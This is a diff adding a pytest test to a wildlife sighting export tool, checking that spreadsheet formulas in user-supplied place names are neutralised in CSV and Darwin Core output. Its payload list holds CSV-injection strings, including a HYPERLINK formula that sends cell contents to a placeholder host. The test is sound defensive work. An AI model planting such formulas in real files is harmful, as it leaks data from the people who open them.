@@ -166,6 +166,29 @@ def test_csv_is_excel_friendly_utf8_with_bom_and_geojson_is_lon_lat() -> None:
     assert "decimalLatitude" not in feature["properties"]
 
 
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+            " =1+1"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_spreadsheet_formulas_are_neutralised_in_csv_and_dwca(payload: str) -> None:
+    """A place name (a Telegram venue title, typed by anyone) must not run as a formula in Excel."""
+    rows = export_rows([row(7, "sighting", {"leopards": 1, "cubs": "no", "behaviour": "resting",
+                                              "distance": "lt50"}, place_name=payload,
+                            location_source="venue", longitude=-1.5)], "trusted", CELL)
+    assert rows[0]["locality"].lstrip().startswith(payload.strip()[:1])  # the attack reaches the row
+    cells = next(iter(csv.DictReader(io.StringIO(to_csv(rows).decode("utf-8-sig")))))
+    archive = zipfile.ZipFile(io.BytesIO(to_dwca(rows)))
+    lines = archive.read("occurrence.txt").decode("utf-8").splitlines()
+    dwc = dict(zip(lines[0].split("\t"), lines[1].split("\t"), strict=True))
+    for table in (cells, dwc):
+        assert table["decimalLongitude"] == "-1.5"  # numbers stay numbers
+        for name, value in table.items():
+            if name != "decimalLongitude":
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+        assert table["locality"].startswith("'") and payload.strip().lstrip("\t\r") in table["locality"]
+
+
 def test_darwin_core_archive_reads_back_with_dwca_reader(tmp_path: Path) -> None:
     built = build_export(REPORTS, "trusted", "dwca", CELL, tz=TZ)
     assert built.rows == 4 and built.filename.endswith(".zip") and built.content_type == "application/zip"
